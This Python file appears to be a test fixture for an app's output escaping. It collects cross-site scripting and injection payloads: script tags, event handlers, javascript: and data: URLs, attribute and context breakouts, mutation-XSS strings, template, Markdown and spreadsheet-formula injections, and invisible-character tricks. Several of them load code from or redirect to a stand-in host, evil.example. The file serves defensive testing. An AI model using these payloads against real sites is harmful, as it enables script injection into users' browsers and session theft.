"""Texts that would do something if anything took them for more than text.

Where one runs, it calls `__ran`, asks another host (`evil.example`), or turns into markup. What
stands in a page as text does neither.
"""

from __future__ import annotations

SCRIPT = (
    "<script>__ran()</script>",
    "<script src=//evil.example/a.js></script>",
    "</script><script>__ran()</script>",
    "<svg><script>__ran()</script></svg>",
    "<svg><script>&#95;&#95;ran()</script></svg>",
    "<<script>__ran()//<</script>",
)
"""Script elements."""

HANDLERS = (
    "<img src=x onerror=__ran()>",
    "<img src='x'onerror='__ran()'>",
    "<IMG/SRC=x/OnErRoR=__ran()>",
    "<svg onload=__ran()>",
    "<body onload=__ran()>",
    "<input autofocus onfocus=__ran()>",
    "<details open ontoggle=__ran()>",
    "<xss autofocus tabindex=1 onfocus=__ran()></xss>",
    "<math><mi xlink:href='javascript:__ran()'>x</mi><img src=x onerror=__ran()></math>",
    "<svg><animate onbegin=__ran() attributeName=x dur=1s>",
)
"""Event handlers."""

ADDRESSES = (
    "javascript:__ran()",
    "JaVaScRiPt:__ran()",
    "java\tscript:__ran()",
    " \tjavascript:__ran()",
    "data:text/html,<script>parent.__ran()</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19yYW4oKTwvc2NyaXB0Pg==",
    "<iframe src=javascript:parent.__ran()></iframe>",
    "<iframe srcdoc='<script>parent.__ran()</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=parent.__ran()&gt;'></iframe>",
    "<object data=//evil.example/o.svg></object>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/><img src=a.png>",
    "<link rel=stylesheet href=//evil.example/a.css>",
)
"""Addresses that run or lead away, and elements that follow them."""

BREAKOUTS = (
    '"><img src=x onerror=__ran()>',
    "'><img src=x onerror=__ran()>",
    "`><img src=x onerror=__ran()>",
    '" autofocus onfocus=__ran() x="',
    "' autofocus onfocus=__ran() x='",
    "x autofocus onfocus=__ran()",
    "--><img src=x onerror=__ran()>",
    "<!--><img src=x onerror=__ran()>-->",
    "]]><img src=x onerror=__ran()>",
    "<![CDATA[<img src=x onerror=__ran()>]]>",
    "</title></textarea></style></noscript><img src=x onerror=__ran()>",
    '";__ran();//',
    "';__ran();//",
    "\\';__ran();//",
    "${__ran()}`;__ran();`",
    '"}];__ran();[{"',
    "\u2028__ran()\u2029",
    "</style><style>@import '//evil.example/b.css';</style>",
    "x;background:url(//evil.example/c.png)",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=__ran() )//</stYle/</titLe/</teXtarEa/"
    "</scRipt/--!>\\x3csVg/<sVg/oNloAd=__ran()//>\\x3e",
)
"""What ends an attribute, a string, a comment, a style or an element early."""

CODED = (
    "&lt;img src=x onerror=__ran()&gt;",
    "\\u003cimg src=x onerror=__ran()\\u003e",
    "<noscript><p title='</noscript><img src=x onerror=__ran()>'></noscript>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;"
    "&lt;img src=x onerror=__ran()&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=__ran()>'>",
    "<template><img src=x onerror=__ran()></template>",
)
"""Coded once or twice, and what a second reading of the page would turn into something else."""

LANGUAGES = (
    "{{7*7}}{{''.__class__}}",
    "{% for x in (1,) %}{{x}}{% endfor %}",
    "{0.__class__}{title.__class__}{",
    "#{7*7}<%= 7*7 %>$&$'$`",
    "![x](//evil.example/d.png)",
    "[x](javascript:__ran())",
    "[x]: //evil.example/e **b** _i_ `c` ~~s~~",
    "<https://evil.example/f> www.evil.example g@evil.example",
    ":material/home: :streamlit: :smile: -> --",
    ":red[x] :blue-background[x] :small[x]",
    "$\\href{javascript:__ran()}{x}$ $$\\frac{1}{2}$$",
    '=HYPERLINK("//evil.example/g","x")',
)
"""What templates, Markdown, Streamlit's directives, TeX and sheets of figures would read."""

INVISIBLE = (
    "\u202e>)(nar__=rorreno x=crs gmi<\u202c",
    "<im\u200bg src=x onerror=__ran()>\u2066\u200f\ufeff",
    "<img src=x \u00a0onerror=__ran()>",
)
"""Letters that turn a line around or cannot be seen."""

ALIKE = (
    "＜img src=x onerror=__ran()＞",
    "%3Cimg src=x onerror=__ran()%3E",
    "<a href=javascript:__ran()>x</a>",
    "<form action=javascript:__ran()><button>x</button></form>",
)
"""What waits for another step: a fold of letters, a second decoding, a click."""

PAYLOADS = (*SCRIPT, *HANDLERS, *ADDRESSES, *BREAKOUTS, *CODED, *LANGUAGES, *INVISIBLE, *ALIKE)

CONTROL = "a\x00<img src=x onerror=__ran()>\x1b[31m"
"""With letters that no file of text holds; they reach the server in an address alone."""
